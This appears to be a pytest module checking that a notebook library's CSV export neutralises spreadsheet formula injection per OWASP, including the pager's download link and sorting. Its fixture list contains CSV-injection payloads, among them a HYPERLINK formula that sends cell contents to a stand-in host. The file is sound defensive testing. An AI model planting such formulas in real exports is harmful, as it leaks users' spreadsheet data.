"""CSV that spreadsheets cannot run (OWASP's CSV-injection rule), read back as written.

The reference is the rule itself, written here as a plain function: a text cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``;
every field is quoted and quotes are doubled.
"""

from __future__ import annotations

import base64
import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from argyle_nb.widgets._csv import csv_text
from argyle_nb.widgets._tables import TablePager

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    'a "quoted" word',
    "line\r\nbreak",
    "plain",
    "",
]


def owasp(value: str) -> str:
    """The rule, independent of the code under test."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formulas_in_cells_index_and_headers_are_neutralised() -> None:
    frame = pd.DataFrame(
        {"=cmd": HOSTILE, "users": range(len(HOSTILE)), "delta": [-1.5] * len(HOSTILE)},
        index=pd.Index([f"-{i}" if i % 2 else f"@{i}" for i in range(len(HOSTILE))], name="+g"),
    )
    text = csv_text(frame)
    read = rows(text)
    assert read[0] == ["'+g", "'=cmd", "users", "delta"]
    for i, row in enumerate(read[1:]):
        assert row == [owasp(str(frame.index[i])), owasp(HOSTILE[i]), str(i), "-1.5"]
    # pandas reads the same cells back (the carriage return no longer splits a row)
    back = pd.read_csv(io.StringIO(text), index_col=0, keep_default_na=False)
    assert len(back) == len(HOSTILE)
    assert back["'=cmd"].tolist() == [owasp(v) for v in HOSTILE]
    # numbers stay numbers: a negative number is not a formula
    assert back["delta"].tolist() == [-1.5] * len(HOSTILE)


def test_every_field_is_quoted() -> None:
    frame = pd.DataFrame({"a": ["x", "=y"], "n": [1, -2]})
    lines = csv_text(frame).splitlines()
    field = r'"(?:[^"]|"")*"'
    assert all(re.fullmatch(rf"{field}(,{field})*", line) for line in lines), lines
    assert csv_text(pd.DataFrame({"q": ['say "hi"']})).splitlines()[1] == '"0","say ""hi"""'


def test_categories_and_missing_values() -> None:
    frame = pd.DataFrame({"c": pd.Categorical(["=x", "y", None]), "s": ["-z", None, "ok"]})
    read = rows(csv_text(frame))
    assert [r[1:] for r in read[1:]] == [["'=x", "'-z"], ["y", ""], ["", "ok"]]


@pytest.mark.property
@given(
    st.lists(
        st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\"',;a1 <>")), max_size=8),
        min_size=1,
        max_size=6,
    )
)
def test_any_text_reads_back_neutralised(values: list[str]) -> None:
    frame = pd.DataFrame({"value": values}, index=pd.Index(values, name="label"))
    read = rows(csv_text(frame))
    assert read[0] == ["label", "value"]
    assert read[1:] == [[owasp(v), owasp(v)] for v in values]


def test_the_download_link_and_to_csv_use_the_rule(tmp_path: Path) -> None:
    frame = pd.DataFrame({"cohort": ["=1+1", "ok"], "users": [3, 1]})
    pager = TablePager("view")
    pager.show(frame)
    data = re.search(r"base64,([^\"]+)", pager._csv.value)
    assert data is not None
    assert rows(base64.b64decode(data.group(1)).decode("utf-8"))[1][1] == "'=1+1"

    path = tmp_path / "view.csv"
    pager.to_csv(path)
    assert rows(path.read_text(encoding="utf-8"))[1][1] == "'=1+1"


def test_sorting_a_column_of_numbers_and_text_sorts_as_text() -> None:
    frame = pd.DataFrame({"value": [10, "b", 2.5, None, "a", True]})
    pager = TablePager("mixed")
    pager.show(frame)
    pager.sort_by.value = "value"  # raised TypeError: '<' not supported between str and int
    assert pager.view["value"].tolist()[:5] == [10, 2.5, True, "a", "b"]
    assert pager.view["value"].isna().tolist()[-1]


def test_a_two_level_index_is_neutralised() -> None:
    index = pd.MultiIndex.from_tuples([("=a", "-b"), ("c", "d")], names=["@k", "v"])
    read = rows(csv_text(pd.DataFrame({"n": [1, 2]}, index=index)))
    assert read == [["'@k", "v", "n"], ["'=a", "'-b", "1"], ["c", "d", "2"]]
